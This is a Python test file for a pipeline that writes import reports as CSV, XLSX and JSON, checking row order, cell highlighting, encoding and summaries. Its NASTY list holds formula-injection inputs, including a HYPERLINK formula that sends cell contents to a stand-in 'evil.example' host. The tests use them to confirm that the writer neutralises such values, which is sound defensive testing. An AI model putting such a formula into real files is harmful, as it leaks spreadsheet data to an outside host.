"""Report files written from real frames and read back from disk: results.csv, corrections.xlsx/.csv, summary.json."""

from __future__ import annotations

import csv
import json
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.model import NEEDS_ATTENTION, ORIGIN_ROW, REPORT_COLUMNS, ROW, CellError, RawTable, Status, errors_frame
from pipeline.report import (
    RESULT_COLUMNS,
    ReportPaths,
    ReportWriteError,
    RunSummary,
    write_reports,
)
from pipeline.report.cellsafety import CELL_LIMIT, escape_controls, restore_csv_cell
from pipeline.report.workbook import BAD_FILL

OUR_COLUMNS = [c for c in RESULT_COLUMNS if c != "file_row"]


# --- builders -----------------------------------------------------------------------------------------------------


def make_run(**changes: object) -> RunSummary:
    values: dict[str, object] = {
        "run_id": "20240601-101500-ab12",
        "input": "samples/jobs.csv",
        "mapping": "mappings/jobs.toml",
        "sheet": None,
        "encoding": "utf-8",
        "delimiter": ",",
        "dry_run": False,
        "started_at": "2024-06-01T10:15:00+00:00",
        "finished_at": "2024-06-01T10:15:30+00:00",
        "duration_s": 30.0,
        "rows_sent": 3,
        "throughput_rows_per_s": 0.1,
        "retries": 2,
        "http_429": 1,
        "http_5xx": 1,
        "reconciled": 0,
        "stop_reason": None,
        "exit_code": 1,
        "customer_id": 42,
    }
    values.update(changes)
    return RunSummary(**values)  # type: ignore[arg-type]


def make_raw(
    columns: list[str],
    rows: list[list[str | None]],
    *,
    kind: str = "csv",
    delimiter: str | None = ",",
    origin: list[int] | None = None,
    first_row: int = 2,
    sheet: str | None = None,
) -> RawTable:
    numbers = list(range(first_row, first_row + len(rows)))
    data: dict[str, pl.Series] = {
        f"_{i}": pl.Series(f"_{i}", [r[i] for r in rows], dtype=pl.String) for i in range(len(columns))
    }
    frame = pl.DataFrame(data).rename({f"_{i}": c for i, c in enumerate(columns)})
    frame = frame.with_columns(
        pl.Series(ROW, numbers, dtype=pl.Int64), pl.Series(ORIGIN_ROW, origin or numbers, dtype=pl.Int64)
    )
    return RawTable(
        frame=frame,
        columns=columns,
        source=Path("input." + ("csv" if kind == "csv" else "xlsx")),
        kind=kind,
        delimiter=delimiter if kind == "csv" else None,
        sheet=sheet,
        is_corrections=origin is not None,
    )


def make_outcomes(raw: RawTable, statuses: list[str], **columns: list[object]) -> pl.DataFrame:
    n = raw.frame.height
    return pl.DataFrame(
        {
            ROW: raw.frame.get_column(ROW),
            ORIGIN_ROW: raw.frame.get_column(ORIGIN_ROW),
            "status": pl.Series(statuses, dtype=pl.String),
            "job_id": pl.Series(
                columns.get(
                    "job_id",
                    [1000 + i if s in ("created", "already_created") else None for i, s in enumerate(statuses)],
                ),
                dtype=pl.Int64,
            ),
            "reference": pl.Series(columns.get("reference", [None] * n), dtype=pl.String),
            "problem_status": pl.Series(columns.get("problem_status", [None] * n), dtype=pl.Int64),
            "problem_title": pl.Series(columns.get("problem_title", [None] * n), dtype=pl.String),
            "problem_detail": pl.Series(columns.get("problem_detail", [None] * n), dtype=pl.String),
            "problem_type": pl.Series(columns.get("problem_type", [None] * n), dtype=pl.String),
            "note": pl.Series(columns.get("note", [None] * n), dtype=pl.String),
        }
    )


def read_csv_records(path: Path, delimiter: str = ",") -> list[list[str]]:
    raw_bytes = path.read_bytes()
    assert raw_bytes.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM expected"
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def sheet_cells(path: Path) -> list[list[openpyxl.cell.cell.Cell]]:
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    return [list(r) for r in ws.iter_rows()]


# --- results.csv --------------------------------------------------------------------------------------------------

STATUSES = [s.value for s in Status]
cell_text = st.one_of(
    st.none(),
    st.text(max_size=12),
    st.sampled_from(["=1+1", "-12", "+44 20 1234", "00123", 'say "hi", bye', "two\nlines", "@x", "\t=1", "'=x"]),
)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.tuples(st.sampled_from(STATUSES), cell_text, cell_text, st.booleans()), max_size=25),
    st.booleans(),
)
def test_results_csv_has_every_source_row_once_in_order(
    rows: list[tuple[str, str | None, str | None, bool]], corrections: bool
) -> None:
    columns = ["Ref", "Notes"]
    origin = [10 + 3 * i for i in range(len(rows))] if corrections else None
    raw = make_raw(columns, [[a, b] for _, a, b, _ in rows], origin=origin)
    outcomes = make_outcomes(raw, [s for s, *_ in rows])
    errors = errors_frame(
        [
            CellError(r, "x", "Notes", "required", f"bad {r}")
            for r, (*_, bad) in zip(raw.frame[ROW], rows, strict=True)
            if bad
        ]
    )
    with tempfile.TemporaryDirectory() as tmp:
        paths = write_reports(Path(tmp), make_run(), raw, outcomes, errors)
        records = read_csv_records(paths.results_csv)
        attention = [s for s, *_ in rows if s in {x.value for x in NEEDS_ATTENTION}]
        assert (paths.corrections_xlsx is not None) == bool(attention)
        if attention:
            assert paths.corrections_xlsx is not None and paths.corrections_csv is not None
            assert len(read_csv_records(paths.corrections_csv)) == len(attention) + 1
    header, body = records[0], records[1:]
    expected_ours = ["row", "file_row", *OUR_COLUMNS[1:]] if corrections else OUR_COLUMNS
    assert header == [*expected_ours, *columns]
    assert len(body) == len(rows)
    at = {name: i for i, name in enumerate(header)}
    assert [int(r[at["row"]]) for r in body] == raw.frame[ORIGIN_ROW].to_list()
    if corrections:
        assert [int(r[at["file_row"]]) for r in body] == raw.frame[ROW].to_list()
    assert [r[at["status"]] for r in body] == [s for s, *_ in rows]
    for record, (status, ref, notes, bad), row in zip(body, rows, raw.frame[ROW], strict=True):
        assert restore_csv_cell(record[at["Ref"]]) == escape_controls(ref or "")
        assert restore_csv_cell(record[at["Notes"]]) == escape_controls(notes or "")
        assert record[at["errors"]] == (f"Notes: bad {row}" if bad else "")
        assert (record[at["job_id"]] != "") == (status in ("created", "already_created"))


def test_results_csv_columns_problem_details_and_errors_text(tmp_path: Path) -> None:
    raw = make_raw(["Job Type", "Customer", "PO"], [["A", "C1", "1"], ["B", "C2", "2"], ["A", "C3", "3"]])
    outcomes = make_outcomes(
        raw,
        ["created", "rejected", "invalid"],
        reference=["R1", "R2", None],
        problem_status=[None, 422, None],
        problem_title=[None, "Unprocessable Entity", None],
        problem_detail=[None, "contactId is archived", None],
        problem_type=[None, "https://api.example/problems/validation", None],
    )
    errors = errors_frame(
        [
            CellError(3, "contactId", "Customer", "api", "Contact is archived"),
            CellError(4, "typeId", "Job Type", "lookup", "Unknown job type A"),
            CellError(4, None, None, "required", "Row needs a reference or a description"),
            CellError(4, "typeId", "Job Type", "lookup", "Unknown job type A"),  # duplicate: shown once
        ]
    )
    paths = write_reports(tmp_path, make_run(), raw, outcomes, errors)
    records = read_csv_records(paths.results_csv)
    assert records[0] == [*OUR_COLUMNS, "Job Type", "Customer", "PO"]
    assert records[1] == ["2", "created", "1000", "R1", "", "", "", "", "", "", "A", "C1", "1"]
    assert records[2] == [
        "3",
        "rejected",
        "",
        "R2",
        "422",
        "Unprocessable Entity",
        "contactId is archived",
        "https://api.example/problems/validation",
        "",
        "Customer: Contact is archived",
        "B",
        "C2",
        "2",
    ]
    assert (
        records[3][OUR_COLUMNS.index("errors")]
        == "Job Type: Unknown job type A; Row needs a reference or a description"
    )


def test_duplicate_and_reserved_header_names_keep_their_values(tmp_path: Path) -> None:
    columns = ["status", "row", "errors", "job_id"]  # polars frames cannot hold duplicate headers; ours can
    raw = make_raw(columns, [["s", "r", "e1", "e2"]])
    paths = write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["invalid"]), errors_frame())
    records = read_csv_records(paths.results_csv)
    assert records[0] == [*OUR_COLUMNS, *columns]
    assert records[1][len(OUR_COLUMNS) :] == ["s", "r", "e1", "e2"]
    assert paths.corrections_csv is not None
    corr = read_csv_records(paths.corrections_csv)
    assert corr[0] == [*columns, *REPORT_COLUMNS]
    assert corr[1] == ["s", "r", "e1", "e2", "2", "invalid", ""]


# --- corrections.xlsx / corrections.csv -------------------------------------------------------------------------


def highlighting_case(tmp_path: Path, kind: str = "csv") -> tuple[ReportPaths, RawTable]:
    columns = ["Ref", "Job Type", "Customer", "Duration", "Notes"]
    rows: list[list[str | None]] = [
        ["R1", "A", "C1", "90", "fine"],  # created
        ["R2", "X", "C2", "1:30", "ok"],  # invalid: Job Type
        ["R3", "A", None, "soon", "n"],  # invalid: Customer (blank) and Duration twice, + row-level
        ["R4", "B", "C4", "30", None],  # rejected: Customer (API error mapped)
        ["R5", "B", "C5", "30", None],  # pending, no errors
    ]
    raw = make_raw(columns, rows, kind=kind, delimiter=";" if kind == "csv" else None, sheet="Jobs")
    outcomes = make_outcomes(raw, ["created", "invalid", "invalid", "rejected", "pending"])
    errors = errors_frame(
        [
            CellError(5, "contactId", "Customer", "api", "Contact C4 is archived"),  # out of order on purpose
            CellError(4, "plannedDuration", "Duration", "duration", "Use 90, 1:30 or 1h30"),
            CellError(3, "typeId", "Job Type", "lookup", "Unknown job type X"),
            CellError(4, "contactId", "Customer", "required", "Customer is required"),
            CellError(4, "plannedDuration", "Duration", "range", "Duration must be positive"),
            CellError(4, None, None, "row", "Row-level problem"),
            CellError(4, "cf:1", "Not A Column", "api", "Unknown column"),  # column not in the file: errors text only
            CellError(2, "description", "Notes", "warning", "On a created row: not in corrections"),
        ]
    )
    return write_reports(tmp_path, make_run(), raw, outcomes, errors), raw


def test_corrections_xlsx_highlights_exactly_the_offending_cells(tmp_path: Path) -> None:
    paths, _ = highlighting_case(tmp_path)
    assert paths.corrections_xlsx is not None
    cells = sheet_cells(paths.corrections_xlsx)
    header = [c.value for c in cells[0]]
    assert header == ["Ref", "Job Type", "Customer", "Duration", "Notes", *REPORT_COLUMNS]
    assert [[c.value for c in r[:5]] for r in cells[1:]] == [
        ["R2", "X", "C2", "1:30", "ok"],
        ["R3", "A", None, "soon", "n"],
        ["R4", "B", "C4", "30", None],
        ["R5", "B", "C5", "30", None],
    ]
    assert [r[5].value for r in cells[1:]] == ["3", "4", "5", "6"]
    assert [r[6].value for r in cells[1:]] == ["invalid", "invalid", "rejected", "pending"]
    assert cells[2][7].value == (
        "Duration: Use 90, 1:30 or 1h30; Customer: Customer is required; Duration: Duration must be positive; "
        "Row-level problem; Not A Column: Unknown column"
    )
    comments = {(c.row, c.column): c.comment.text for r in cells for c in r if c.comment is not None}
    assert comments == {
        (2, 2): "Unknown job type X",
        (3, 3): "Customer is required",
        (3, 4): "Use 90, 1:30 or 1h30\nDuration must be positive",
        (4, 3): "Contact C4 is archived",
    }
    red = {
        (c.row, c.column) for r in cells for c in r if c.fill.fill_type and c.fill.fgColor.rgb == "FF" + BAD_FILL[1:]
    }
    assert red == set(comments)
    for row in cells:
        for cell in row:
            assert cell.data_type in ("s", "n") and (cell.value is None or isinstance(cell.value, str))


def test_corrections_xlsx_layout(tmp_path: Path) -> None:
    paths, _ = highlighting_case(tmp_path, kind="excel")
    assert paths.corrections_csv is None and paths.corrections_xlsx is not None
    wb = openpyxl.load_workbook(paths.corrections_xlsx)
    ws = wb.active
    assert ws is not None
    assert ws.title == "Jobs"  # the sheet the mapping names, so the file can be imported again
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:H5"
    assert all(c.font.bold for c in ws[1])
    widths = [ws.column_dimensions[letter].width for letter in "ABCDEFGH"]
    assert all(w is None or 8 <= w <= 81 for w in widths)
    assert ws.column_dimensions["H"].width > ws.column_dimensions["A"].width  # errors column is wide


def test_corrections_csv_uses_the_input_delimiter_and_a_bom(tmp_path: Path) -> None:
    paths, _ = highlighting_case(tmp_path)
    assert paths.corrections_csv is not None
    text = paths.corrections_csv.read_bytes()
    assert text.startswith(b"\xef\xbb\xbfRef;Job Type;Customer;Duration;Notes;row;status;errors\n")
    records = read_csv_records(paths.corrections_csv, delimiter=";")
    assert [r[:7] for r in records[1:]] == [
        ["R2", "X", "C2", "1:30", "ok", "3", "invalid"],
        ["R3", "A", "", "soon", "n", "4", "invalid"],
        ["R4", "B", "C4", "30", "", "5", "rejected"],
        ["R5", "B", "C5", "30", "", "6", "pending"],
    ]


def test_corrections_of_a_corrections_file_keep_the_original_rows(tmp_path: Path) -> None:
    raw = make_raw(["Ref"], [["a"], ["b"]], origin=[17, 40])
    paths = write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["created", "failed"]), errors_frame())
    assert paths.corrections_xlsx is not None
    assert [c.value for c in sheet_cells(paths.corrections_xlsx)[1]] == ["b", "40", "failed", None]


def test_no_corrections_when_every_row_succeeded(tmp_path: Path) -> None:
    raw = make_raw(["Ref"], [["a"], ["b"]])
    paths = write_reports(
        tmp_path, make_run(exit_code=0), raw, make_outcomes(raw, ["created", "already_created"]), errors_frame()
    )
    assert paths.corrections_xlsx is None and paths.corrections_csv is None
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv", "summary.html", "summary.json"]


NASTY = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "-12",
    "-3.5",
    "00123",
    "'=already quoted",
    "tab\tinside and\nnew line",
    "literal _x0041_ escape",
    "  spaces around  ",
    "0.10",
    "1E5",
    "TRUE",
    "2024-01-01",
    "http://example.com",
]


def nasty_case(tmp_path: Path, kind: str = "csv") -> tuple[ReportPaths, list[str]]:
    raw = make_raw(["Value", "=Risky Header"], [[v, "x"] for v in NASTY], kind=kind, delimiter=",")
    return write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["invalid"] * len(NASTY)), errors_frame()), NASTY


def test_formula_injection_in_csv_files(tmp_path: Path) -> None:
    paths, values = nasty_case(tmp_path)
    assert paths.corrections_csv is not None
    for path, first in ((paths.results_csv, len(OUR_COLUMNS)), (paths.corrections_csv, 0)):
        records = read_csv_records(path)
        assert records[0][first + 1] == "'=Risky Header"
        cells = [r[first] for r in records[1:]]
        assert cells[:8] == [
            '\'=HYPERLINK("http://evil.example/steal?d="&A1,"Click")',
            "'+1",
            "'-1+1",
            "'@SUM(A1:A9)",
            "'\t=1",
            "'\r=1",
            "-12",
            "-3.5",
        ]
        for record in records:
            for cell in record:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or cell in ("-12", "-3.5")
        assert [restore_csv_cell(c) for c in cells] == values


def test_formula_injection_in_xlsx_round_trips_as_text(tmp_path: Path) -> None:
    paths, values = nasty_case(tmp_path)
    assert paths.corrections_xlsx is not None
    with zipfile.ZipFile(paths.corrections_xlsx) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    assert 't="n"' not in sheet_xml and "<v>" not in sheet_xml  # no number cells either: every value is text
    cells = sheet_cells(paths.corrections_xlsx)
    assert cells[0][1].value == "=Risky Header"
    assert all(r[0].data_type == "s" for r in cells[1:])
    # openpyxl does not decode the OOXML escapes `_x000D_` (CR) and `_x005F_` (a literal `_x...`): compare the rest.
    plain = [(r[0].value, v) for r, v in zip(cells[1:], values, strict=True) if "\r" not in v and "_x" not in v]
    assert len(plain) == len(values) - 2 and all(got == want for got, want in plain)
    # Read back through calamine, the engine the reader uses (and Excel): every value comes back exactly.
    frame = pl.read_excel(paths.corrections_xlsx, infer_schema_length=0)
    assert frame.columns[:2] == ["Value", "=Risky Header"]
    assert frame.get_column("Value").to_list() == values


def test_control_characters_are_visible_in_every_format(tmp_path: Path) -> None:
    raw = make_raw(["Notes"], [["bell\x07 nul\x00 esc\x1b c1\x85"], ["keep\ttab\nnewline"]])
    errors = errors_frame([CellError(2, None, "Notes", "x", "bad\x0bvertical tab")])
    paths = write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["invalid", "invalid"]), errors)
    visible = "bell[U+0007] nul[U+0000] esc[U+001B] c1[U+0085]"
    assert paths.corrections_xlsx is not None and paths.corrections_csv is not None
    results = read_csv_records(paths.results_csv)
    assert [r[-1] for r in results[1:]] == [visible, "keep\ttab\nnewline"]
    assert results[1][len(OUR_COLUMNS) - 1] == "Notes: bad[U+000B]vertical tab"
    assert [r[0] for r in read_csv_records(paths.corrections_csv)[1:]] == [visible, "keep\ttab\nnewline"]
    cells = sheet_cells(paths.corrections_xlsx)
    assert [r[0].value for r in cells[1:]] == [visible, "keep\ttab\nnewline"]
    assert cells[1][0].comment is not None and cells[1][0].comment.text == "bad[U+000B]vertical tab"


def test_overlong_cells_and_comments_are_cut_visibly(tmp_path: Path) -> None:
    long_value = "=" + "a" * 39_999
    long_message = "m" * 50_000
    raw = make_raw(["Notes"], [[long_value]])
    errors = errors_frame([CellError(2, None, "Notes", "max_length", long_message)])
    paths = write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["invalid"]), errors)
    assert paths.corrections_xlsx is not None and paths.corrections_csv is not None
    csv_cell = read_csv_records(paths.results_csv)[1][-1]
    assert len(csv_cell) <= CELL_LIMIT and csv_cell.startswith("'=aaaa")
    kept = len(csv_cell) - 1 - len(csv_cell.split("…")[1]) - 1
    assert csv_cell.endswith(f"…[cut: {40_000 - kept} more characters]")
    cell = sheet_cells(paths.corrections_xlsx)[1][0]
    assert isinstance(cell.value, str) and len(cell.value) <= CELL_LIMIT
    assert cell.value.startswith("=aaaa") and cell.value.endswith("more characters]")
    assert cell.comment is not None and len(cell.comment.text) <= CELL_LIMIT
    assert cell.comment.text.endswith("more characters]")


@settings(max_examples=25, deadline=None)
@given(
    st.lists(
        st.lists(st.one_of(st.none(), st.text(max_size=15).filter(bool)), min_size=3, max_size=3),
        min_size=1,
        max_size=12,
    )
)
def test_corrections_round_trip_gives_the_same_values(rows: list[list[str | None]]) -> None:
    raw = make_raw(["A", "B", "C"], rows)
    outcomes = make_outcomes(raw, ["invalid"] * len(rows))
    errors = errors_frame([CellError(r, None, "B", "x", "check B") for r in raw.frame[ROW]])
    expected = [[None if v is None else escape_controls(v) for v in row] for row in rows]
    with tempfile.TemporaryDirectory() as tmp:
        paths = write_reports(Path(tmp), make_run(), raw, outcomes, errors)
        assert paths.corrections_xlsx is not None and paths.corrections_csv is not None
        cells = sheet_cells(paths.corrections_xlsx)
        via_calamine = pl.read_excel(paths.corrections_xlsx, infer_schema_length=0).select("A", "B", "C").rows()
        via_csv = [[restore_csv_cell(v) or None for v in r[:3]] for r in read_csv_records(paths.corrections_csv)[1:]]
        via_polars_csv = pl.read_csv(paths.corrections_csv, infer_schema=False).select("A", "B", "C").rows()
    assert all(c.data_type == "s" for r in cells[1:] for c in r[:3] if c.value is not None)
    assert [list(r) for r in via_calamine] == expected
    assert via_csv == [[v or None for v in row] for row in expected]
    assert [[None if v is None else restore_csv_cell(v) for v in r] for r in via_polars_csv] == [
        [v or None for v in row] for row in expected
    ]


def test_too_many_rows_for_a_worksheet_go_to_corrections_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pipeline.report.results.XLSX_MAX_DATA_ROWS", 2)
    raw = make_raw(["Ref"], [["a"], ["b"], ["c"]], kind="excel", sheet="Jobs")
    paths = write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["invalid"] * 3), errors_frame())
    assert paths.corrections_xlsx is None and paths.corrections_csv is not None
    assert [r[0] for r in read_csv_records(paths.corrections_csv)] == ["Ref", "a", "b", "c"]
    doc = json.loads(paths.summary_json.read_text(encoding="utf-8"))
    assert any("corrections.csv only" in note for note in doc["notes"])
    assert "corrections.csv only" in paths.summary_html.read_text(encoding="utf-8")


# --- summary.json and failures ---------------------------------------------------------------------------------------


def test_summary_json_contents(tmp_path: Path) -> None:
    paths, raw = highlighting_case(tmp_path)
    previous = pl.DataFrame({ORIGIN_ROW: [2, 3, 4, 99], "status": ["failed", "invalid", "created", "invalid"]})
    paths = write_reports(
        tmp_path / "again",
        make_run(),
        raw,
        make_outcomes(raw, ["created", "invalid", "invalid", "rejected", "pending"]),
        errors_frame([CellError(3, "typeId", "Job Type", "lookup", "Unknown")]),
        previous,
    )
    doc = json.loads(paths.summary_json.read_text(encoding="utf-8"))
    assert doc["run_id"] == "20240601-101500-ab12"
    assert doc["input"] == "samples/jobs.csv" and doc["mapping"] == "mappings/jobs.toml"
    assert doc["counts"] == {
        "created": 1,
        "already_created": 0,
        "invalid": 2,
        "rejected": 1,
        "failed": 0,
        "uncertain": 0,
        "pending": 1,
        "valid": 0,
    }
    assert doc["total_rows"] == 5 and doc["needs_attention"] == 4 and doc["succeeded"] == 1
    assert doc["duration_s"] == 30.0 and doc["throughput_rows_per_s"] == 0.1
    run_numbers = [doc[k] for k in ("retries", "http_429", "http_5xx", "exit_code", "stop_reason")]
    assert run_numbers == [2, 1, 1, 1, None]
    assert doc["errors"]["by_check"] == {"lookup": 1}
    assert doc["errors"]["top_messages"] == [
        {"column": "Job Type", "message": "Unknown", "count": 1, "example_rows": [3]}
    ]
    assert doc["changes"] == {"fixed": 1, "still_failing": 1, "new": 2, "other": 1, "not_in_this_run": 1}
    assert doc["reports"] == {
        "results_csv": str(paths.results_csv),
        "corrections_xlsx": str(paths.corrections_xlsx),
        "corrections_csv": str(paths.corrections_csv),
        "summary_json": str(paths.summary_json),
        "summary_html": str(paths.summary_html),
    }
    for value in doc["reports"].values():
        assert Path(value).is_file()


def test_unwritable_report_dir_is_one_readable_line(tmp_path: Path) -> None:
    blocker = tmp_path / "reports"
    blocker.write_text("a file where the folder should be")
    raw = make_raw(["Ref"], [["a"]])
    with pytest.raises(ReportWriteError) as info:
        write_reports(blocker / "run-1", make_run(), raw, make_outcomes(raw, ["created"]), errors_frame())
    assert "\n" not in str(info.value) and "run-1" in str(info.value)


def test_outcomes_that_do_not_match_the_source_are_refused(tmp_path: Path) -> None:
    raw = make_raw(["Ref"], [["a"], ["b"]])
    with pytest.raises(ValueError, match="outcomes have 1 rows"):
        write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["created", "created"]).head(1), errors_frame())
    with pytest.raises(ValueError, match="source order"):
        write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["created", "created"]).reverse(), errors_frame())
    with pytest.raises(ValueError, match="unknown status"):
        write_reports(tmp_path, make_run(), raw, make_outcomes(raw, ["created", "done"]), errors_frame())
    assert list(tmp_path.iterdir()) == []
